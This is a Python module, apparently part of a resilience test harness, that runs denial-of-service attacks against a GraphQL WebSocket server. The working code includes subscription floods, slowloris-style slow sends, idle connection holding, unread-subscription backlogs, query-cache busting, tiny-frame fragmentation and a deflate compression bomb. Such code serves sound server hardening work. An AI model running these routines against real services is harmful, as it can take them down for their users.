"""How the attacks of `hostile_attacks.py` go on: generators of what was sent and of what became of it."""

from __future__ import annotations

import contextlib
import select
import time
import zlib
from collections.abc import Callable, Iterator
from itertools import count
from typing import Any

from hostile_wire import PATIENCE, Target, WebSocket, answered, frame, message

Done = Iterator[tuple[int, str]]
"""How many messages were sent, and the answer in words; the number is 0 for one more answer."""

SOCKETS = 8
"""Connections that an attacker uses at a time, so that the server need never wait for it."""
BATCH = 125
INIT = message("connection_init")
COMPLETE = message("complete", id="x")


def subscribe(id: object, query: str = "subscription { other { id } }", **payload: Any) -> bytes:
    """Make the frame of a subscribe."""
    return message("subscribe", id=str(id), payload={"query": query, **payload})


def each(make: Callable[[int], bytes], number: int = BATCH) -> bytes:
    """Make a batch."""
    return b"".join(make(one) for one in range(number))


def acknowledged(target: Target, path: str = "/graphql") -> WebSocket:
    """Open a connection that may subscribe."""
    opened = WebSocket(target, path)
    assert opened.shaken() == 101
    opened.send(INIT)
    assert list(opened.outcomes(1)) == ["connection_ack"]
    return opened


def rounds(
    batch: bytes,
    answers: int,
    target: Target,
    *,
    sent: int = BATCH,
    after: bytes = b"",
    path: str = "/graphql",
) -> Done:
    """Send a batch on each connection and read the answers, again and again."""
    sockets = [acknowledged(target, path) for _ in range(SOCKETS)]
    while not target.over:
        for number, one in enumerate(sockets):
            if not one.send(batch):
                sockets[number] = acknowledged(target, path)
        for number, one in enumerate(sockets):
            yield sent, "sent"
            for outcome in one.outcomes(answers):
                yield 0, outcome
                if outcome.startswith(("close", "end")):
                    one.close()
                    sockets[number] = acknowledged(target, path)
            if after:
                yield sent, "sent"
                sockets[number].send(after)
    for one in sockets:
        one.close()


def shots(
    data: bytes, target: Target, *, path: str = "/graphql", sent: int = 1, init: bytes = INIT, **how: str
) -> Done:
    """Connect, send, and read how it ends, with new connections each time."""
    while not target.over:
        sockets = [WebSocket(target, path, **how) for _ in range(SOCKETS)]
        for one in sockets:
            if (status := one.shaken()) != 101:
                yield sent, f"HTTP {status}"
            elif init:
                one.send(init)
                assert list(one.outcomes(1)) == ["connection_ack"]
            one.send(data)
        for one in sockets:
            if one.status == 101:
                yield sent, next(outcome for outcome in one.outcomes(10_000) if outcome != "pong")
            one.close()


def stream(batch: bytes, target: Target, *, sent: int = BATCH) -> Done:
    """Send without end what gets no answer; a ping at the end tells that the connection lives."""
    sockets = [acknowledged(target) for _ in range(SOCKETS)]
    data = memoryview(batch * 8)
    left = dict.fromkeys(sockets, data)
    for one in sockets:
        one.socket.setblocking(False)
    while not target.over:
        _, ready, _ = select.select([], [one.socket for one in sockets], [], 0.1)
        for one in sockets:
            if one.socket in ready:
                rest = left[one][one.socket.send(left[one]) :]
                left[one] = rest or data
                yield 0 if rest else sent * 8, "sent"
    for one in sockets:
        one.socket.settimeout(PATIENCE)
        one.send(bytes(left[one]) + message("ping"))
        with contextlib.suppress(TimeoutError):  # its backlog is the attacker's own
            yield 0, next(one.outcomes(1))
        one.close()


def requests(data: bytes, target: Target) -> Done:
    """Send a request on each connection and read the answers, again and again."""
    sockets = [target.open() for _ in range(SOCKETS)]
    while not target.over:
        for one in sockets:
            with contextlib.suppress(ConnectionResetError, BrokenPipeError):
                one.sendall(data)
        for number, one in enumerate(sockets):
            outcome, lives = answered(one)
            yield 1, outcome
            if not lives:
                one.close()
                sockets[number] = target.open()
    for one in sockets:
        one.close()


def connects(target: Target) -> Done:
    """Open connections and leave at once."""
    while not target.over:
        sockets = [WebSocket(target) for _ in range(SOCKETS)]
        for one in sockets:
            yield 1, f"HTTP {one.shaken()}"
            one.close()


def busy(target: Target) -> Done:
    """Say nothing to the server, and take all that is left of a core."""
    while not target.over:
        yield 1, "nothing"


def silent(target: Target, opened_max: int = 500) -> Done:
    """Hold connections that never say `connection_init`."""
    sockets: list[WebSocket] = []
    while sockets or not target.over:
        while len(sockets) < opened_max and not target.over:
            sockets.append(WebSocket(target))
            assert sockets[-1].shaken() == 101
        for one in sockets:
            yield 1, next(one.outcomes(1))
            one.close()
        sockets.clear()


def slow(head: bytes, target: Target, opened_max: int = 300) -> Done:
    """Send a byte at a time on many connections, and see which of them the server has ended."""
    sockets = {one.fileno(): one for one in (target.open() for _ in range(opened_max))}
    for one in sockets.values():
        one.sendall(head)
    while not target.over:
        for one in list(sockets.values()):
            with contextlib.suppress(ConnectionResetError, BrokenPipeError):
                one.sendall(b"a")
        yield len(sockets), "sent"
        ended, _, _ = select.select(list(sockets), [], [], 0.05)
        for descriptor in ended:
            yield 0, answered(sockets[descriptor])[0]
            sockets.pop(descriptor).close()
            fresh = target.open()
            fresh.sendall(head)
            sockets[fresh.fileno()] = fresh
    yield 0, "held"
    for one in sockets.values():
        one.close()


def unread(target: Target) -> Done:
    """Subscribe to large events on many connections and read none until the end."""
    sockets = [acknowledged(target) for _ in range(10)]
    for one in sockets:
        one.send(each(lambda number: subscribe(number, "subscription { bulk { number bulk } }"), 5))
        yield 5, "sent"
    while not target.over:
        time.sleep(0.1)
    for one in sockets:
        yield 0, next(outcome for outcome in one.outcomes(1_000_000) if outcome != "next")
        one.close()


def distinct(target: Target) -> Done:
    """Subscribe with ever new documents, so that no compiled one is of use."""
    number = count(int(time.monotonic() * 1e6))
    sockets = [acknowledged(target) for _ in range(SOCKETS)]
    padding = "a " * 300
    while not target.over:
        for one in sockets:
            ids = [next(number) for _ in range(20)]
            one.send(b"".join(subscribe(id, f"subscription {{ other {{ a{id} {padding} }} }}") for id in ids))
            one.send(b"".join(message("complete", id=str(id)) for id in ids) + message("ping"))
        for one in sockets:
            yield 20, next(one.outcomes(1))
    for one in sockets:
        one.close()


def searching(target: Target, data: bytes) -> Done:
    """Subscribe with a pattern of the client's, and have it decide on every event."""
    sockets = [acknowledged(target) for _ in range(SOCKETS)]
    for one in sockets:
        one.send(data)
        yield 10, "sent"
    while not target.over:
        time.sleep(0.1)
    for one in sockets:
        one.send(message("ping"))
        yield 0, next(outcome for outcome in one.outcomes(1_000_000) if outcome != "next")
        one.close()


def fragments(target: Target, piece: bytes, first: int) -> Done:
    """Send one message in frames that are next to nothing, until the server has had enough."""
    opening = frame(b'{"type":"ping","payload":{"a":"' + b"a" * first, fin=False)
    pieces = frame(piece, 0, fin=False) * 4_096
    while not target.over:
        one = acknowledged(target)
        one.send(opening)
        sent, told = 0, False
        while not (told or target.over) and one.send(pieces):
            sent += 4_096
            told = bool(select.select([one.socket], [], [], 0)[0])
        yield sent, next(one.outcomes(1)) if told else "sent"
        one.close()


def bomb(target: Target) -> Done:
    """Offer compression, and send a message that is small only while it is compressed."""
    packer = zlib.compressobj(wbits=-12)
    packed = packer.compress(b" " * (15 << 20)) + packer.flush(zlib.Z_SYNC_FLUSH)
    data = frame(packed[:-4], deflated=True)
    offer = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits=12\r\n"
    yield from shots(data, target, init=b"", headers=offer)
